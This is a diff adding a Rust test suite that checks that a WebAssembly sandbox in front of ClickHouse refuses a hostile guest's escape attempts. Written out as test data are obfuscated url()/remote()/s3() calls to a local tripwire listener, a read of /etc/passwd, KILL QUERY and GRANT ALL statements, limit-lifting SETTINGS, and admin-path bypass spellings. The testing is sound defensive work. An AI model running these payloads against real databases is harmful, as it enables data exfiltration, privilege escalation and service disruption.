@@ -1,0 +1,795 @@
+//! The sandbox as a security boundary: a hostile route component (the test
+//! guest's `/sql` runs whatever the test sends) tries each way out that
+//! ClickHouse offers, against a real server, and every one is closed.
+
+mod common;
+
+use std::io::{Read as _, Write as _};
+use std::net::{SocketAddr, TcpListener, TcpStream};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::time::{Duration, Instant};
+
+use common::{ClickHouse, HostBuilder, Reply, Wasmhouse, get, guests};
+
+/// The hostile guest on several routes with different guard-rails.
+fn hostile_routes(clickhouse: &ClickHouse, extra: &str) -> (Wasmhouse, tempfile::TempDir) {
+    let guest = guests::hostile(1);
+    let dir = tempfile::tempdir().expect("temp dir");
+    let manifest = dir.path().join("wasmhouse.toml");
+    std::fs::write(
+        &manifest,
+        format!(
+            r#"
+[[route]]
+name = "relaxed"
+prefix = "/relaxed"
+component = "{guest}"
+readonly = "relaxed"
+
+[[route]]
+name = "opted-in"
+prefix = "/opted-in"
+component = "{guest}"
+readonly = "relaxed"
+allowed_functions = ["url"]
+
+[[route]]
+name = "writer"
+prefix = "/writer"
+component = "{guest}"
+readonly = false
+
+[[route]]
+name = "limited"
+prefix = "/limited"
+component = "{guest}"
+max_execution_time = "500ms"
+max_rows_to_read = 1000
+max_threads = 1
+
+[[route]]
+name = "small-memory"
+prefix = "/small-memory"
+component = "{guest}"
+max_memory_usage = "16MiB"
+
+{extra}
+
+[[route]]
+name = "strict"
+prefix = "/"
+component = "{guest}"
+"#,
+            guest = guest.display()
+        ),
+    )
+    .expect("write manifest");
+    let host = HostBuilder::new(clickhouse)
+        .args(&["--manifest", manifest.to_str().expect("UTF-8 path")])
+        .start();
+    (host, dir)
+}
+
+/// Run `sql` through the guest's `/sql` route under `prefix`, with extra
+/// query parameters (`param.x`, `setting.x`, `format`).
+async fn sql(host: &Wasmhouse, prefix: &str, sql: &str, extra: &[(&str, &str)]) -> Reply {
+    let mut pairs = vec![("q", sql)];
+    pairs.extend_from_slice(extra);
+    let url =
+        reqwest::Url::parse_with_params(&host.url(&format!("{prefix}/sql")), &pairs).expect("URL");
+    get(url.as_str()).await
+}
+
+/// Assert the guest got the WIT `refused` error (403 through the SDK).
+fn assert_refused(reply: &Reply, what: &str) {
+    assert_eq!(reply.status, 403, "{what}: {}", reply.text);
+    assert_eq!(reply.json["kind"], "refused", "{what}: {}", reply.text);
+}
+
+/// An HTTP listener the test owns: counts every connection made to it.
+struct Tripwire {
+    addr: SocketAddr,
+    connections: Arc<AtomicUsize>,
+}
+
+impl Tripwire {
+    fn start() -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").expect("tripwire listener");
+        let addr = listener.local_addr().expect("tripwire address");
+        let connections = Arc::new(AtomicUsize::new(0));
+        let counter = connections.clone();
+        std::thread::spawn(move || {
+            for stream in listener.incoming() {
+                let Ok(mut stream) = stream else { continue };
+                counter.fetch_add(1, Ordering::SeqCst);
+                let _ = stream.set_read_timeout(Some(Duration::from_millis(200)));
+                let mut buffer = [0u8; 4096];
+                let _ = stream.read(&mut buffer);
+                let _ = stream.write_all(
+                    b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nstolen",
+                );
+            }
+        });
+        Self { addr, connections }
+    }
+
+    fn count(&self) -> usize {
+        self.connections.load(Ordering::SeqCst)
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn url_remote_and_file_never_leave_clickhouse() {
+    let clickhouse = ClickHouse::start();
+    let (host, _dir) = hostile_routes(&clickhouse, "");
+    let tripwire = Tripwire::start();
+    let at = tripwire.addr;
+    let attacks = [
+        format!("SELECT * FROM url('http://{at}/a', CSV, 'a String')"),
+        format!("select * from URL('http://{at}/b', CSV, 'a String')"),
+        format!("SELECT * FROM `url`('http://{at}/c', CSV, 'a String')"),
+        format!("SELECT * FROM url/* hidden */('http://{at}/d', CSV, 'a String')"),
+        format!("SELECT * FROM url\n('http://{at}/e', CSV, 'a String')"),
+        format!(
+            "SELECT * FROM (SELECT * FROM (SELECT * FROM url('http://{at}/f', CSV, 'a String')))"
+        ),
+        format!("SELECT 1 // '\n FROM url('http://{at}/g', CSV, 'a String') -- '"),
+        format!("SELECT 1 # '\n FROM url('http://{at}/h', CSV, 'a String') -- '"),
+        format!("SELECT * FROM remote('{at}', system.one)"),
+        format!("SELECT * FROM remoteSecure('{at}', system.one)"),
+        format!("SELECT * FROM cluster('{at}', system.one)"),
+        format!("SELECT * FROM s3('http://{at}/bucket/key', 'CSV', 'a String')"),
+        format!("SELECT * FROM mysql('{at}', 'db', 't', 'u', 'p')"),
+        format!("SELECT * FROM hdfs('hdfs://{at}/x', 'CSV', 'a String')"),
+        "SELECT * FROM file('passwd', TSV, 'line String')".to_owned(),
+        "SELECT file('/etc/passwd')".to_owned(),
+        "SELECT * FROM merge('system', '^proc')".to_owned(),
+    ];
+    for prefix in ["", "/relaxed", "/writer"] {
+        for attack in &attacks {
+            let reply = sql(&host, prefix, attack, &[]).await;
+            assert_refused(&reply, &format!("{prefix} {attack}"));
+        }
+    }
+    let writer_attacks = [
+        format!("INSERT INTO FUNCTION url('http://{at}/i', CSV, 'a String') VALUES ('x')"),
+        format!("CREATE TABLE leak (a String) ENGINE = URL('http://{at}/j', CSV)"),
+        "CREATE TABLE leak (a String) ENGINE = File(TabSeparated)".to_owned(),
+        format!(
+            "CREATE DICTIONARY d (a UInt64) PRIMARY KEY a SOURCE(HTTP(url 'http://{at}/k' format 'CSV')) LAYOUT(FLAT()) LIFETIME(0)"
+        ),
+    ];
+    for attack in &writer_attacks {
+        let reply = sql(&host, "/writer", attack, &[]).await;
+        assert_refused(&reply, attack);
+    }
+    assert_eq!(
+        tripwire.count(),
+        0,
+        "ClickHouse was made to connect to the test's listener"
+    );
+
+    // The tripwire works: a route that opts in to url() does reach it.
+    let reply = sql(
+        &host,
+        "/opted-in",
+        &format!("SELECT * FROM url('http://{at}/allowed', CSV, 'a String')"),
+        &[],
+    )
+    .await;
+    assert_eq!(reply.status, 200, "{}", reply.text);
+    assert!(tripwire.count() >= 1, "the opted-in route never connected");
+    assert_eq!(get(&host.url("/health")).await.status, 200);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn settings_cannot_lift_the_hosts_limits() {
+    let clickhouse = ClickHouse::start();
+    let (host, _dir) = hostile_routes(&clickhouse, "");
+    for prefix in ["/limited", "/relaxed", "/writer", ""] {
+        for attack in [
+            "SELECT sleep(2) SETTINGS max_execution_time = 0",
+            "SELECT sleep(2) SETTINGS timeout_overflow_mode = 'break'",
+            "SELECT sleep(2) settings `max_execution_time` = 0",
+            "SELECT (SELECT sleep(2) SETTINGS max_execution_time = 0)",
+            "SELECT 1 SETTINGS output_format_json_quote_denormals = 1, readonly = 0",
+            "SELECT 1 SETTINGS max_memory_usage = 0",
+            "SET max_execution_time = 0",
+        ] {
+            let reply = sql(&host, prefix, attack, &[]).await;
+            assert_refused(&reply, &format!("{prefix}: {attack}"));
+        }
+        for (name, value) in [
+            ("max_execution_time", "0"),
+            ("timeout_overflow_mode", "break"),
+            ("readonly", "0"),
+            ("max_memory_usage", "0"),
+            ("max_threads", "64"),
+            ("max_rows_to_read", "0"),
+            ("max_block_size", "1"),
+            ("query_id", "mine"),
+            ("replace_running_query", "1"),
+        ] {
+            let setting = format!("setting.{name}");
+            let reply = sql(&host, prefix, "SELECT 1", &[(&setting, value)]).await;
+            assert_refused(&reply, &format!("{prefix}: {name}={value}"));
+        }
+    }
+    // A relaxed route may use SETTINGS clauses within the allow-list.
+    let allowed = sql(
+        &host,
+        "/relaxed",
+        "SELECT 1 SETTINGS output_format_json_quote_denormals = 1",
+        &[],
+    )
+    .await;
+    assert_eq!(allowed.status, 200, "{}", allowed.text);
+
+    // The limit holds: 500 ms is sent as 1 s (18.16 reads whole seconds,
+    // and 0.5 would be read as 0, no limit at all), so a 2 s sleep fails
+    // (ClickHouse notices when the sleeping block ends).
+    let slow = sql(&host, "/limited", "SELECT sleep(2)", &[]).await;
+    assert_eq!(slow.status, 504, "{}", slow.text);
+    assert_eq!(slow.json["kind"], "timeout", "{}", slow.text);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn every_query_carries_the_hosts_caps() {
+    let clickhouse = ClickHouse::start();
+    let (host, _dir) = hostile_routes(&clickhouse, "");
+    let settings = "SELECT name, value FROM system.settings WHERE name IN ('readonly', 'max_execution_time', 'timeout_overflow_mode', 'max_memory_usage', 'max_threads', 'max_rows_to_read', 'read_overflow_mode', 'result_overflow_mode') ORDER BY name";
+    let reply = sql(&host, "/limited", settings, &[]).await;
+    assert_eq!(reply.status, 200, "{}", reply.text);
+    let result = reply.json["result"].as_str().expect("result text");
+    for expected in [
+        "max_execution_time\t1",
+        "max_memory_usage\t1073741824",
+        "max_rows_to_read\t1000",
+        "max_threads\t1",
+        "read_overflow_mode\tthrow",
+        "readonly\t1",
+        "result_overflow_mode\tthrow",
+        "timeout_overflow_mode\tthrow",
+    ] {
+        assert!(result.contains(expected), "{expected:?} not in:\n{result}");
+    }
+    let relaxed = sql(&host, "/relaxed", settings, &[]).await;
+    assert!(
+        relaxed.json["result"]
+            .as_str()
+            .is_some_and(|r| r.contains("readonly\t2")),
+        "{}",
+        relaxed.text
+    );
+
+    let small = sql(&host, "/small-memory", "SELECT 1", &[]).await;
+    assert_eq!(small.status, 200, "{}", small.text);
+    let hog = sql(
+        &host,
+        "/small-memory",
+        "SELECT length(groupArray(number)) FROM (SELECT number FROM system.numbers LIMIT 10000000)",
+        &[],
+    )
+    .await;
+    assert_refused(&hog, "a query over max_memory_usage");
+    assert!(
+        hog.json["error"]
+            .as_str()
+            .is_some_and(|e| e.contains("max_memory_usage")),
+        "{}",
+        hog.text
+    );
+    let scan = sql(
+        &host,
+        "/limited",
+        "SELECT count() FROM (SELECT number FROM system.numbers LIMIT 100000)",
+        &[],
+    )
+    .await;
+    assert_refused(&scan, "a scan over max_rows_to_read");
+    assert!(
+        scan.json["error"]
+            .as_str()
+            .is_some_and(|e| e.contains("max_rows_to_read")),
+        "{}",
+        scan.text
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_guest_cannot_touch_another_requests_query() {
+    let clickhouse = ClickHouse::start();
+    let (host, _dir) = hostile_routes(&clickhouse, "");
+    let victim_url =
+        reqwest::Url::parse_with_params(&host.url("/sql"), &[("q", "SELECT sleep(3) AS victim")])
+            .expect("URL");
+    let victim = tokio::spawn(async move { get(victim_url.as_str()).await });
+    let running = "SELECT query_id FROM system.processes WHERE query LIKE '%AS victim%' AND query NOT LIKE '%system.processes%' FORMAT TabSeparated";
+    let deadline = Instant::now() + Duration::from_secs(10);
+    let query_id = loop {
+        let id = clickhouse.query(running).trim().to_owned();
+        if !id.is_empty() {
+            break id;
+        }
+        assert!(
+            Instant::now() < deadline,
+            "the victim's query never started"
+        );
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    };
+    // Random, so it cannot be guessed.
+    let random = query_id.strip_prefix("wasmhouse-").unwrap_or_default();
+    assert!(
+        random.len() == 32 && random.bytes().all(|b| b.is_ascii_hexdigit()),
+        "query id {query_id:?} is not random"
+    );
+
+    let attacks = [
+        "KILL QUERY WHERE query_id LIKE 'wasmhouse-%'".to_owned(),
+        "KILL QUERY WHERE 1 SYNC".to_owned(),
+        format!("KILL QUERY WHERE query_id = '{query_id}'"),
+        "kill query where 1".to_owned(),
+        "/* maintenance */ KILL QUERY WHERE 1".to_owned(),
+        "(KILL QUERY WHERE 1)".to_owned(),
+        "SELECT 1; KILL QUERY WHERE 1".to_owned(),
+        "SELECT query_id, query FROM system.processes".to_owned(),
+        "SELECT * FROM `system`.`processes`".to_owned(),
+        "SELECT * FROM system.query_log".to_owned(),
+        "SHOW PROCESSLIST".to_owned(),
+    ];
+    for prefix in ["", "/relaxed", "/writer"] {
+        for attack in &attacks {
+            let reply = sql(&host, prefix, attack, &[]).await;
+            assert_refused(&reply, &format!("{prefix}: {attack}"));
+        }
+        // Reusing the victim's id as this query's own is refused too.
+        let reply = sql(
+            &host,
+            prefix,
+            "SELECT 1",
+            &[("setting.query_id", &query_id)],
+        )
+        .await;
+        assert_refused(&reply, "query_id setting");
+    }
+    let victim = victim.await.expect("victim request");
+    assert_eq!(
+        victim.status, 200,
+        "the victim's query was hurt: {}",
+        victim.text
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn writes_and_administration_are_refused() {
+    let clickhouse = ClickHouse::start();
+    let (host, _dir) = hostile_routes(&clickhouse, "");
+    let writes = [
+        "INSERT INTO t VALUES (1)",
+        "CREATE TABLE t (x UInt8) ENGINE = Memory",
+        "ALTER TABLE t DELETE WHERE 1",
+        "DROP TABLE IF EXISTS t",
+        "TRUNCATE TABLE t",
+        "RENAME TABLE a TO b",
+        "OPTIMIZE TABLE t",
+    ];
+    let never = [
+        "SYSTEM SHUTDOWN",
+        "SYSTEM DROP DNS CACHE",
+        "USE system",
+        "GRANT ALL ON *.* TO default",
+        "REVOKE ALL ON *.* FROM default",
+        "CREATE USER intruder",
+        "ALTER USER default IDENTIFIED BY 'x'",
+        "DROP USER default",
+        "ATTACH TABLE t",
+        "DETACH TABLE system.numbers",
+        "CREATE FUNCTION f AS x -> x",
+        "SELECT * FROM t INTO OUTFILE 'x'",
+    ];
+    for prefix in ["", "/relaxed", "/limited"] {
+        for attack in writes.iter().chain(&never) {
+            let reply = sql(&host, prefix, attack, &[]).await;
+            assert_refused(&reply, &format!("{prefix}: {attack}"));
+        }
+    }
+    for attack in &never {
+        let reply = sql(&host, "/writer", attack, &[]).await;
+        assert_refused(&reply, &format!("writer: {attack}"));
+    }
+    // The route that allows writes can write.
+    let create = sql(
+        &host,
+        "/writer",
+        "CREATE TABLE IF NOT EXISTS written (x UInt8) ENGINE = Memory",
+        &[],
+    )
+    .await;
+    assert_eq!(create.status, 200, "{}", create.text);
+    assert_eq!(
+        clickhouse
+            .query("EXISTS TABLE written FORMAT TabSeparated")
+            .trim(),
+        "1"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn malformed_input_never_crashes_the_host() {
+    let clickhouse = ClickHouse::start();
+    let (host, _dir) = hostile_routes(&clickhouse, "");
+    let deep_type = format!(
+        "SELECT {{v:{}String{}}}",
+        "Array(".repeat(100_000),
+        ")".repeat(100_000)
+    );
+    let deep_value = format!("{}1{}", "[".repeat(100_000), "]".repeat(100_000));
+    let huge_sql = format!("SELECT '{}'", "x".repeat(300 << 10));
+    let big_value = "é".repeat(600_000);
+    let cases: Vec<(String, Vec<(String, String)>)> = vec![
+        (deep_type, vec![("param.v".into(), "[]".into())]),
+        (
+            "SELECT {v:Array(Array(UInt8))}".into(),
+            vec![("param.v".into(), deep_value)],
+        ),
+        (
+            "SELECT {v:DateTime}".into(),
+            vec![("param.v".into(), "2024-01-3é 23:59:58".into())],
+        ),
+        (
+            "SELECT {v:DateTime}".into(),
+            vec![("param.v".into(), "2024-01-31 23:59:5✓".into())],
+        ),
+        (
+            "SELECT {v:Decimal32(200)}".into(),
+            vec![("param.v".into(), "1.5".into())],
+        ),
+        (
+            "SELECT {v:FixedString(18446744073709551615)}".into(),
+            vec![("param.v".into(), "x".into())],
+        ),
+        (
+            "SELECT {v:String}".into(),
+            vec![("param.v".into(), big_value)],
+        ),
+        (huge_sql, vec![]),
+        (
+            "SELECT {✓:String}".into(),
+            vec![("param.✓".into(), "x".into())],
+        ),
+        ("SELECT '✓".into(), vec![]),
+        ("SELECT 1 /* ✓".into(), vec![]),
+        ("\u{0}SELECT 1".into(), vec![]),
+        (
+            "SELECT 1".into(),
+            vec![
+                ("setting.✓".into(), "1".into()),
+                ("format".into(), "JSON&readonly=0".into()),
+            ],
+        ),
+        (
+            "SELECT 1".into(),
+            vec![("format".into(), "✓".repeat(10_000))],
+        ),
+    ];
+    for (query, extra) in &cases {
+        let extra: Vec<(&str, &str)> = extra
+            .iter()
+            .map(|(k, v)| (k.as_str(), v.as_str()))
+            .collect();
+        let mut pairs = vec![("q", query.as_str())];
+        pairs.extend_from_slice(&extra);
+        // Big inputs travel in the body-less URL; the guest reads them as
+        // query parameters, so keep them within what the host accepts.
+        let url = reqwest::Url::parse_with_params(&host.url("/sql"), &pairs).expect("URL");
+        let reply = if url.as_str().len() > 60_000 {
+            None
+        } else {
+            Some(get(url.as_str()).await)
+        };
+        if let Some(reply) = reply {
+            assert!(
+                (400..600).contains(&reply.status) && reply.json["kind"].is_string(),
+                "{}: {} {}",
+                common::prefix(query, 80),
+                reply.status,
+                common::prefix(&reply.text, 300)
+            );
+        }
+        let health = get(&host.url("/health")).await;
+        assert_eq!(
+            health.status,
+            200,
+            "the host is down after {}",
+            common::prefix(query, 80)
+        );
+    }
+
+    // Too big for a URL: send the SQL in headers and bodies the host itself
+    // must survive (hyper bounds them before any guest runs).
+    let addr = host.addr();
+    let statuses = tokio::task::spawn_blocking(move || {
+        let mut statuses = Vec::new();
+        for request in [
+            format!("GET /health HTTP/1.1\r\nHost: x\r\nX-Big: {}\r\nConnection: close\r\n\r\n", "a".repeat(1 << 20)).into_bytes(),
+            b"GET /health HTTP/1.1\r\nHost: x\r\nX-Bytes: \xff\xfe\xc3\r\nConnection: close\r\n\r\n".to_vec(),
+            format!("GET /{} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", "é".repeat(100_000)).into_bytes(),
+            b"GET /health HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999999999999999\r\nConnection: close\r\n\r\n".to_vec(),
+        ] {
+            statuses.push(raw_status(addr, &request));
+        }
+        statuses
+    })
+    .await
+    .expect("raw requests");
+    for status in &statuses {
+        assert!(
+            *status == 200 || (400..500).contains(status),
+            "raw request answered {status}: {statuses:?}"
+        );
+    }
+    assert_eq!(get(&host.url("/health")).await.status, 200);
+}
+
+/// Send raw bytes and return the status code of the answer (0 if none).
+fn raw_status(addr: SocketAddr, request: &[u8]) -> u16 {
+    let Ok(mut stream) = TcpStream::connect(addr) else {
+        return 0;
+    };
+    let _ = stream.set_read_timeout(Some(Duration::from_secs(10)));
+    let _ = stream.write_all(request);
+    let mut response = Vec::new();
+    let _ = stream.read_to_end(&mut response);
+    String::from_utf8_lossy(&response)
+        .split_whitespace()
+        .nth(1)
+        .and_then(|s| s.parse().ok())
+        .unwrap_or(0)
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn host_resources_per_instance_are_bounded() {
+    let clickhouse = ClickHouse::start();
+    let (host, _dir) = hostile_routes(&clickhouse, "");
+    let open = get(&host.url("/open-results?n=20")).await;
+    assert_eq!(open.status, 200, "{}", open.text);
+    assert_eq!(open.json["open"], 8, "{}", open.text);
+    assert!(
+        open.json["refused"]
+            .as_str()
+            .is_some_and(|r| r.contains("at most 8")),
+        "{}",
+        open.text
+    );
+    // Resource handles past the table's capacity trap the instance.
+    let fields = get(&host.url("/fields?n=100000")).await;
+    assert_eq!(fields.status, 500, "{}", fields.text);
+    assert_eq!(fields.json["kind"], "trap", "{}", fields.text);
+    // A header set past the size limit traps the instance too.
+    let header = get(&host.url("/big-header?kb=1024")).await;
+    assert_eq!(header.status, 500, "{}", header.text);
+    assert_eq!(header.json["kind"], "trap", "{}", header.text);
+    let small = get(&host.url("/big-header?kb=1")).await;
+    assert_eq!(small.json["accepted"], true, "{}", small.text);
+    // A pooled connection per open result: the pool still serves others.
+    assert_eq!(get(&host.url("/many-rows")).await.status, 200);
+    assert_eq!(get(&host.url("/health")).await.status, 200);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn informational_answers_become_500() {
+    let clickhouse = ClickHouse::start();
+    let (host, _dir) = hostile_routes(&clickhouse, "");
+    for status in [101, 103] {
+        let reply = get(&host.url(&format!("/informational?status={status}"))).await;
+        assert_eq!(reply.status, 500, "{status}: {}", reply.text);
+        assert_eq!(
+            reply.json["kind"], "guest_error",
+            "{status}: {}",
+            reply.text
+        );
+    }
+    assert_eq!(get(&host.url("/health")).await.status, 200);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_admin_token_never_reaches_a_guest() {
+    let clickhouse = ClickHouse::start();
+    let token = "admin-token-0123456789abcdef";
+    let guest = guests::hostile(1);
+    let host = HostBuilder::new(&clickhouse)
+        .args(&["--component", guest.to_str().expect("UTF-8 path")])
+        .env("WASMHOUSE_ADMIN_TOKEN", token)
+        .start();
+    let client = common::client();
+    let bearer = format!("Bearer {token}");
+    // However the path is spelt, an admin path is the admin API's.
+    for path in [
+        "/admin/components",
+        "//admin/components",
+        "/./admin/components",
+        "/x/../admin/components",
+        "/%61dmin/components",
+        "/ADMIN/components",
+    ] {
+        let url = format!("http://{}{path}", host.addr());
+        let reply = common::send(client.get(&url).header("authorization", &bearer)).await;
+        assert_eq!(reply.status, 200, "{path}: {}", reply.text);
+        assert!(
+            reply.json["components"].is_array(),
+            "{path}: {}",
+            reply.text
+        );
+        let anonymous = common::send(client.get(&url)).await;
+        assert_eq!(anonymous.status, 401, "{path}: {}", anonymous.text);
+    }
+    // Sent to a route, the token is removed before the guest sees the request.
+    let echoed = common::send(
+        client
+            .get(host.url("/headers"))
+            .header("authorization", &bearer),
+    )
+    .await;
+    assert_eq!(echoed.status, 200, "{}", echoed.text);
+    assert!(
+        !echoed.text.contains(token),
+        "the guest saw the token: {}",
+        echoed.text
+    );
+    let other = common::send(
+        client
+            .get(host.url("/headers"))
+            .header("authorization", "Bearer the-guests-own-token"),
+    )
+    .await;
+    assert!(
+        other.text.contains("the-guests-own-token"),
+        "other credentials must reach the route: {}",
+        other.text
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn error_bodies_carry_no_internals() {
+    let guest = guests::hostile(1);
+    let host = HostBuilder::without_clickhouse()
+        .args(&["--component", guest.to_str().expect("UTF-8 path")])
+        .start();
+    let reply = get(&host.url("/sql?q=SELECT%201")).await;
+    assert_eq!(reply.status, 503, "{}", reply.text);
+    assert_eq!(reply.json["kind"], "clickhouse_unavailable");
+    for internal in [
+        "query_id",
+        "http://",
+        "readonly",
+        "max_memory_usage",
+        "127.0.0.1:9",
+    ] {
+        assert!(
+            !reply.text.contains(internal),
+            "the error shows {internal:?}: {}",
+            reply.text
+        );
+    }
+    // The details are in the host's log, for the operator.
+    let deadline = Instant::now() + Duration::from_secs(5);
+    while !host.log().contains("ClickHouse request failed") {
+        assert!(Instant::now() < deadline, "no log line: {}", host.log());
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn dotenv_is_read_from_the_working_directory_only() {
+    let clickhouse = ClickHouse::start();
+    let parent = tempfile::tempdir().expect("temp dir");
+    std::fs::write(
+        parent.path().join(".env"),
+        format!(
+            "CLICKHOUSE_HOST=127.0.0.1\nCLICKHOUSE_PORT={}\n",
+            clickhouse.http_port()
+        ),
+    )
+    .expect("write .env");
+    let child = parent.path().join("service");
+    std::fs::create_dir(&child).expect("child directory");
+    // In the child directory the parent's .env must not apply: the host
+    // falls back to the default port, where this test's ClickHouse is not.
+    let host = HostBuilder::without_clickhouse()
+        .env_remove("CLICKHOUSE_HOST")
+        .env_remove("CLICKHOUSE_PORT")
+        .current_dir(&child)
+        .start();
+    let status = get(&host.url("/clickhouse-status")).await;
+    assert_ne!(
+        status.json["port"],
+        clickhouse.http_port(),
+        "the parent directory's .env was read: {}",
+        status.text
+    );
+    // In the parent directory it applies.
+    let host = HostBuilder::without_clickhouse()
+        .env_remove("CLICKHOUSE_HOST")
+        .env_remove("CLICKHOUSE_PORT")
+        .current_dir(parent.path())
+        .start();
+    let status = get(&host.url("/clickhouse-status")).await;
+    assert_eq!(status.status, 200, "{}", status.text);
+    assert_eq!(status.json["port"], clickhouse.http_port());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_dedicated_user_cannot_read_databases_it_was_not_given() {
+    let password = "a long test password";
+    let hash: String = {
+        use sha2::Digest as _;
+        sha2::Sha256::digest(password.as_bytes())
+            .iter()
+            .map(|b| format!("{b:02x}"))
+            .collect()
+    };
+    let fragment = include_str!("../deploy/clickhouse/wasmhouse-user.xml")
+        .replace("SHA256_OF_THE_PASSWORD", &hash);
+    let clickhouse = ClickHouse::start_with_users(&fragment);
+    for setup in [
+        "CREATE DATABASE analytics",
+        "CREATE TABLE analytics.events (id UInt64) ENGINE = Memory",
+        "INSERT INTO analytics.events VALUES (1), (2), (3)",
+        "CREATE DATABASE secret",
+        "CREATE TABLE secret.keys (key String) ENGINE = Memory",
+        "INSERT INTO secret.keys VALUES ('hunter2')",
+    ] {
+        clickhouse.query(setup);
+    }
+    // The account itself, straight to ClickHouse: no way into `secret`.
+    let (status, body) = clickhouse.query_as("wasmhouse", password, "SELECT * FROM secret.keys");
+    assert_ne!(status, 200, "{body}");
+
+    let guest = guests::hostile(1);
+    let host = HostBuilder::new(&clickhouse)
+        .args(&["--component", guest.to_str().expect("UTF-8 path")])
+        .env("CLICKHOUSE_USER", "wasmhouse")
+        .env("CLICKHOUSE_PASSWORD", password)
+        .env("CLICKHOUSE_DATABASE", "analytics")
+        .start();
+    let events = sql(&host, "", "SELECT count() FROM events", &[]).await;
+    assert_eq!(events.status, 200, "{}", events.text);
+    assert_eq!(events.json["result"], "3\n");
+    let numbers = sql(
+        &host,
+        "",
+        "SELECT count() FROM (SELECT number FROM system.numbers LIMIT 10)",
+        &[],
+    )
+    .await;
+    assert_eq!(numbers.status, 200, "{}", numbers.text);
+    for attack in [
+        "SELECT * FROM secret.keys",
+        "SELECT * FROM `secret`.`keys`",
+        "SELECT * FROM analytics.events AS e, secret.keys AS k",
+    ] {
+        let reply = sql(&host, "", attack, &[]).await;
+        assert_refused(&reply, attack);
+        assert!(!reply.text.contains("hunter2"), "{attack}: {}", reply.text);
+    }
+    // Not even the names of its tables are shown.
+    let listing = sql(&host, "", "SHOW TABLES FROM secret", &[]).await;
+    assert!(!listing.text.contains("keys"), "{}", listing.text);
+
+    // The built-in routes work under this account too.
+    let builtin = HostBuilder::new(&clickhouse)
+        .env("CLICKHOUSE_USER", "wasmhouse")
+        .env("CLICKHOUSE_PASSWORD", password)
+        .env("CLICKHOUSE_DATABASE", "analytics")
+        .start();
+    for path in [
+        "/concurrent/simple-query",
+        "/concurrent/heavy-query",
+        "/clickhouse-status",
+        "/concurrent/test-isolation?delay=0",
+    ] {
+        let reply = get(&builtin.url(path)).await;
+        assert_eq!(reply.status, 200, "{path}: {}", reply.text);
+    }
+}
